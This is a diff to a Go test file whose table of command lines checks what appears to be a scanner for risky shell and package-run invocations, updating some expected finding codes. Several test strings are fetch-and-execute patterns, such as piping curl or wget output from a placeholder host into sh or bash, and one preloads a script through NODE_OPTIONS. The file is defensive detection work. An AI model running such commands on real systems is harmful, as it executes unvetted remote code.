@@ -33,7 +33,7 @@ func TestCommandLines(t *testing.T) {
 		{[]string{"zsh", "-c", "source <(curl -s https://x)"}, "MG202@2 MG201@2"},
 		{[]string{"bash", "-c", `eval "$(curl -s https://x)"`}, "MG202@2 MG201@2"},
 		{[]string{"bash", "-c", `bash <<< "$(wget -qO- https://x)"`}, "MG202@2 MG201@2"},
-		{[]string{"bash", "-c", "curl -sO https://x/install.sh && sh install.sh"}, "MG202@2 MG201@2"},
+		{[]string{"bash", "-c", "curl -sO https://x/install.sh && sh install.sh"}, "MG202@2 MG201@2 MG105@2"},
 		{[]string{"bash", "-c", "cd /tmp && { curl -s https://x; } | bash"}, "MG202@2 MG201@2"},
 		{[]string{"bash", "-c", `bash -c 'curl https://x | sh'`}, "MG202@2 MG201@2"},
 		{[]string{"sh", "-c", "if true; then curl https://x | sh; fi"}, "MG202@2 MG201@2"},
@@ -55,7 +55,7 @@ func TestCommandLines(t *testing.T) {
 		// Wrappers and nested command lines.
 		{[]string{"sh", "-c", `exec "$@"`, "sh", "npx", "-y", "pkg"}, "MG202@2 MG204@6"},
 		{[]string{"cmd", "/c", "npx", "-y", "pkg"}, "MG202@2 MG204@2"},
-		{[]string{"bash", "-c", "NODE_OPTIONS=--require=./x.js node /opt/s.js"}, "MG202@2 MG101@2"},
+		{[]string{"bash", "-c", "NODE_OPTIONS=--require=./x.js node /opt/s.js"}, "MG202@2 MG101@2 MG105@2"},
 		{[]string{"sudo", "-u", "svc", "npx", "pkg@1.0.0"}, ""},
 		{[]string{"timeout", "30", "uvx", "pkg"}, "MG204@3"},
 		// Inline code.
@@ -68,7 +68,7 @@ func TestCommandLines(t *testing.T) {
 		// Repository code.
 		{[]string{"node", "--require", "./preload.js", "/opt/s.js"}, "MG105@2"},
 		{[]string{"bun", "run", "dev"}, "MG105@2"},
-		{[]string{"go", "run", "./cmd/srv"}, "MG105@1"},
+		{[]string{"go", "run", "./cmd/srv"}, "MG105@2"},
 		{[]string{"go", "run", "golang.org/x/tools/gopls@latest"}, "MG204@2"},
 		{[]string{"go", "run", "golang.org/x/tools/gopls@v0.16.1"}, ""},
 		{[]string{"uv", "run", "--project", "/opt/srv", "srv"}, ""},
